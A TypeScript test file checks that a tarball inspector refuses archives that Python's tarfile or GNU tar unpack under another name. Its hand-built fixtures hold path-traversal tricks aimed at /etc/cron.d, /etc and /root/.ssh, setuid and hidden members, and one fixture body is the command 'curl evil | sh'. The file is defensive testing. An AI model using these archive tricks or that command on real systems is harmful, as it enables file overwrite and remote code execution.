// Issue 26 item 2: tarballs whose member a real tar reader (Python's tarfile, GNU tar) reads under another name
// than the header's own: a PAX global header's path, a prefix field in an old header, a folder that claims
// content, a second PAX header, members past the end-of-archive blocks. Each test first shows that Python's
// tarfile (what extractall() writes) is fooled, then that the coordinator's inspection refuses the tarball
// naming the member as that reader reads it.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import { inspectTarball, TarballRefusedError } from '../../../src-main/core/jobs/tarball-inspect';
import { packReproducibleTar } from '../../../src-main/platform/files/reproducible-tar';
import { handMadeTar, paxRecords, type RawMember } from './hand-made-tar';
import { gnuTarNames, hasGnuTar, hasPython, pythonMembers, pythonPaxTarball } from './python-tar';

const dirs: string[] = [];
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});
function tempDir(): string {
  const d = mkdtempSync(path.join(tmpdir(), 'gpu-share-pax-'));
  dirs.push(d);
  return d;
}
function fileOf(tar: Buffer): string {
  const file = path.join(tempDir(), 'a.tar.gz');
  writeFileSync(file, gzipSync(tar));
  return file;
}
async function refusalOf(file: string): Promise<TarballRefusedError> {
  const error = await inspectTarball(file).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(TarballRefusedError);
  return error as TarballRefusedError;
}
const names = (file: string, ignoreZeros = false) => pythonMembers(file, ignoreZeros).map((m) => m.name);

const SAFE: RawMember = { path: 'adapter/model.safetensors', body: 'weights' };

describe.runIf(hasPython)('tar headers as real readers read them', () => {
  it("refuses a PAX global header's path=../../x (made by Python's tarfile), as tarfile and GNU tar read it", async () => {
    const file = path.join(tempDir(), 'global.tar.gz');
    pythonPaxTarball(file, { path: '../../x' }, 'safe.txt', 'curl evil | sh');
    expect(names(file)).toEqual(['../../x']);
    if (hasGnuTar) expect(gnuTarNames(file)).toEqual(['../../x']);
    const error = await refusalOf(file);
    expect(error.member).toBe('../../x');
    expect(error.message).toContain("has '..' in its path");
  });

  it('refuses a hand-made global header with an absolute path, and one whose path differs from the header name', async () => {
    const absolute = fileOf(handMadeTar([{ path: 'pax_global_header', type: 'g', body: paxRecords({ path: '/etc/cron.d/job' }) }, SAFE]));
    expect(names(absolute)).toEqual(['/etc/cron.d/job']);
    expect((await refusalOf(absolute)).message).toContain('"/etc/cron.d/job" has an absolute path');
    // Inside the folder, but not the name the header says: readers would disagree on what is unpacked where.
    const renamed = fileOf(handMadeTar([{ path: 'pax_global_header', type: 'g', body: paxRecords({ path: 'adapter/other' }) }, SAFE]));
    expect(names(renamed)).toEqual(['adapter/other']);
    expect((await refusalOf(renamed)).message).toContain('a PAX global header');
  });

  it("refuses a global header's linkpath that turns a link inside into a link to /etc", async () => {
    const file = fileOf(handMadeTar([{ path: 'pax_global_header', type: 'g', body: paxRecords({ linkpath: '/etc' }) }, { path: 'cfg', type: '2', linkpath: 'adapter' }]));
    expect(pythonMembers(file).map((m) => [m.name, m.linkname])).toEqual([['cfg', '/etc']]);
    const error = await refusalOf(file);
    expect(error.member).toBe('cfg');
    expect(error.message).toContain('/etc');
  });

  it('refuses a PAX extended path or linkpath and GNU long names (L, K) that leave the folder', async () => {
    const extended = fileOf(handMadeTar([{ path: 'PaxHeaders/x', type: 'x', body: paxRecords({ path: '../../x' }) }, SAFE]));
    expect(names(extended)).toEqual(['../../x']);
    expect((await refusalOf(extended)).member).toBe('../../x');
    const link = fileOf(handMadeTar([{ path: 'PaxHeaders/l', type: 'x', body: paxRecords({ linkpath: '/root/.ssh' }) }, { path: 'keys', type: '2', linkpath: 'adapter' }]));
    expect(pythonMembers(link)[0]!.linkname).toBe('/root/.ssh');
    expect((await refusalOf(link)).message).toContain('is a symbolic link to /root/.ssh');
    const longName = fileOf(handMadeTar([{ path: '././@LongLink', type: 'L', body: '../'.repeat(40) + 'x\0' }, SAFE]));
    expect(names(longName)).toEqual(['../'.repeat(40) + 'x']);
    expect((await refusalOf(longName)).message).toContain("has '..' in its path");
    const longLink = fileOf(handMadeTar([{ path: '././@LongLink', type: 'K', body: '/etc\0' }, { path: 'l', type: '2', linkpath: 'adapter' }]));
    expect(pythonMembers(longLink)[0]!.linkname).toBe('/etc');
    expect((await refusalOf(longLink)).message).toContain('is a symbolic link to /etc');
  });

  it('refuses a prefix field in an old (v7) header, which tarfile reads and node-tar does not', async () => {
    const file = fileOf(handMadeTar([{ path: 'x', body: 'evil', magic: '', prefix: '../..' }]));
    expect(names(file)).toEqual(['../../x']);
    expect((await refusalOf(file)).member).toBe('../../x');
  });

  it('refuses a folder that claims content: tarfile reads a member hidden in it that other readers skip', async () => {
    const hidden = handMadeTar([{ path: '../../evil', body: 'owned' }], Buffer.alloc(0));
    // Python does not skip a folder's "content": the next header it reads is the hidden one.
    const file = fileOf(Buffer.concat([handMadeTar([{ path: 'adapter', type: '5', size: hidden.length }], Buffer.alloc(0)), hidden, Buffer.alloc(1024)]));
    expect(names(file)).toEqual(['adapter', '../../evil']);
    const error = await refusalOf(file);
    expect(error.member).toBe('adapter');
    expect(error.message).toContain('claims');
  });

  it('refuses two PAX headers in a row (tarfile takes the first path, node-tar the second)', async () => {
    const file = fileOf(
      handMadeTar([
        { path: 'PaxHeaders/1', type: 'x', body: paxRecords({ path: 'first' }) },
        { path: 'PaxHeaders/2', type: 'x', body: paxRecords({ path: 'second' }) },
        SAFE,
      ]),
    );
    expect(names(file)).toEqual(['first']);
    expect((await refusalOf(file)).message).toContain('PAX');
  });

  it('refuses a global header that sets the size (readers disagree on where the next header is)', async () => {
    const file = fileOf(handMadeTar([{ path: 'pax_global_header', type: 'g', body: paxRecords({ size: '0' }) }, SAFE]));
    expect((await refusalOf(file)).message).toContain('size');
  });

  it('refuses anything after the end-of-archive blocks: tar -i and ignore_zeros read it', async () => {
    const after = handMadeTar([{ path: '../../x', body: 'evil' }], Buffer.alloc(0));
    const file = fileOf(handMadeTar([SAFE], Buffer.concat([Buffer.alloc(1024), after, Buffer.alloc(1024)])));
    expect(names(file)).toEqual([SAFE.path]);
    expect(names(file, true)).toEqual([SAFE.path, '../../x']);
    if (hasGnuTar) expect(gnuTarNames(file, true)).toContain('../../x');
    expect((await refusalOf(file)).message).toContain('after its end-of-archive');
    // After a single zero block too (GNU tar and tarfile stop there; node-tar reads on).
    const lone = fileOf(handMadeTar([SAFE], Buffer.concat([Buffer.alloc(512), handMadeTar([{ path: 'late', body: 'x' }])])));
    expect(names(lone)).toEqual([SAFE.path]);
    expect((await refusalOf(lone)).message).toContain('after its end-of-archive');
  });

  it('refuses a malformed PAX record, a bad checksum midway and a setuid file', async () => {
    const malformed = fileOf(handMadeTar([{ path: 'PaxHeaders/x', type: 'x', body: '99 path=../../x\n' }, SAFE]));
    expect((await refusalOf(malformed)).message).toContain('PAX');
    const tar = handMadeTar([SAFE, { path: 'second', body: 'x' }]);
    tar[1024 + 10] ^= 1; // the second header, its checksum now wrong: tarfile stops there, node-tar skips it
    expect((await refusalOf(fileOf(tar))).message).toContain('checksum');
    expect((await refusalOf(fileOf(handMadeTar([{ path: 'run', body: '#!/bin/sh', mode: 0o4755 }])))).message).toContain('setuid');
  });

  it('takes what the packer makes with long and non-ASCII names (PAX path headers), and a Python-made PAX tarball', async () => {
    const root = tempDir();
    const long = `${'d'.repeat(120)}/${'f'.repeat(150)}.bin`;
    mkdirSync(path.join(root, 'd'.repeat(120)));
    writeFileSync(path.join(root, long), 'w');
    writeFileSync(path.join(root, 'modèle-權重.bin'), 'w');
    writeFileSync(path.join(root, `${'n'.repeat(240)}.txt`), 'w');
    const out = path.join(tempDir(), 'packed.tar.gz');
    await packReproducibleTar(root, out);
    expect(names(out).sort()).toEqual(['d'.repeat(120), long, 'modèle-權重.bin', `${'n'.repeat(240)}.txt`].sort());
    expect(await inspectTarball(out)).toEqual({ entries: 4, unpackedBytes: 3 });
    const python = path.join(tempDir(), 'python.tar.gz');
    pythonPaxTarball(python, {}, `${'p'.repeat(200)}-é.txt`, 'hello');
    expect(await inspectTarball(python)).toEqual({ entries: 1, unpackedBytes: 5 });
  });
});
